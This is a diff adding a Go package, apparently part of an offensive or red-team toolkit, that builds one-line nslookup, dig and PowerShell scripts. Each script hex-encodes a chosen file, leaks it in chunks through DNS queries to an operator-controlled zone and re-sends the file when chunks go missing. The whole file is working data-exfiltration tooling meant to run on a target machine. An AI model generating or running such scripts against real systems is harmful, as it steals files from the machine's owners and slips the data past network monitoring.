@@ -0,0 +1,82 @@
+package dnsexfil
+
+import (
+	"fmt"
+	"strings"
+)
+
+// Clients senders can be generated for
+const (
+	ClientNslookup   = "nslookup"
+	ClientDig        = "dig"
+	ClientPowerShell = "powershell"
+)
+
+// Clients lists the clients senders can be generated for
+var Clients = []string{ClientNslookup, ClientDig, ClientPowerShell}
+
+// chunkSize is the hex characters a sender puts in a query, two labels
+const chunkSize = 120
+
+// sendAttempts is how often a sender sends the file while the end query is
+// answered with 127.0.0.2, as chunks got lost
+const sendAttempts = 3
+
+// Sender returns a one-line script that leaks file through queries under
+// zone with client, which is nslookup or dig in bash or Resolve-DnsName in
+// PowerShell. The queries go to the target's resolver, or to server when
+// set, for targets that may reach the DNS server directly. While the end
+// query reports missing chunks the whole file is sent again.
+func Sender(client, zone, file, server string) (string, error) {
+	zone = NormalizeZone(zone)
+	if file == "" {
+		file = "FILE"
+	}
+	if strings.Trim(server, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.:-") != "" {
+		return "", fmt.Errorf("invalid server %q", server)
+	}
+	attempts := fmt.Sprint(sendAttempts)
+	size := fmt.Sprint(chunkSize)
+
+	switch client {
+	case ClientNslookup, ClientDig:
+		query := "nslookup %s $r 2>/dev/null"
+		if client == ClientDig {
+			query = "dig +short %s ${r:+@$r} 2>/dev/null"
+		}
+		return "f=" + shellQuote(file) + "; z=" + zone + "; r=" + server + "; " +
+			"i=$(od -An -N4 -tx1 /dev/urandom | tr -d ' \\n'); " +
+			"h=$(od -An -v -tx1 \"$f\" | tr -d ' \\n'); " +
+			`m=$(printf %s "$(basename "$f")" | od -An -v -tx1 | tr -d ' \n' | fold -w60 | paste -sd. -); ` +
+			"for t in $(seq " + attempts + "); do n=0; " +
+			"for c in $(echo $h | fold -w" + size + "); do " +
+			fmt.Sprintf(query, "$(echo $c | fold -w60 | paste -sd. -).$n.$i.$z") + " >/dev/null; n=$((n+1)); done; " +
+			fmt.Sprintf(query, "$m.$n.end.$i.$z") + ` | grep -q '127\.0\.0\.2$' || break; done`, nil
+
+	case ClientPowerShell:
+		resolve := "Resolve-DnsName -Type A -DnsOnly"
+		if server != "" {
+			resolve += " -Server " + server
+		}
+		return "$f=" + powerShellQuote(file) + ";$z='" + zone + "';" +
+			"$i=-join(1..8|%{'{0:x}' -f (Get-Random -Max 16)});" +
+			"$h=-join([IO.File]::ReadAllBytes((Resolve-Path $f))|%{'{0:x2}' -f $_});" +
+			"$m=-join([Text.Encoding]::UTF8.GetBytes((Split-Path $f -Leaf))|%{'{0:x2}' -f $_}) -replace '(.{60})(?=.)','$1.';" +
+			"for($t=0;$t -lt " + attempts + ";$t++){$n=0;" +
+			"for($o=0;$o -lt $h.Length;$o+=" + size + "){" +
+			"$c=$h.Substring($o,[Math]::Min(" + size + ",$h.Length-$o)) -replace '(.{60})(?=.)','$1.';" +
+			resolve + " \"$c.$n.$i.$z\" -EA 0|Out-Null;$n++};" +
+			"if(@((" + resolve + " \"$m.$n.end.$i.$z\" -EA 0).IPAddress) -notcontains '127.0.0.2'){break}}", nil
+	}
+	return "", fmt.Errorf("unknown client %q (expected %s)", client, strings.Join(Clients, ", "))
+}
+
+// shellQuote quotes s for POSIX shells
+func shellQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
+}
+
+// powerShellQuote quotes s as a PowerShell literal string
+func powerShellQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
+}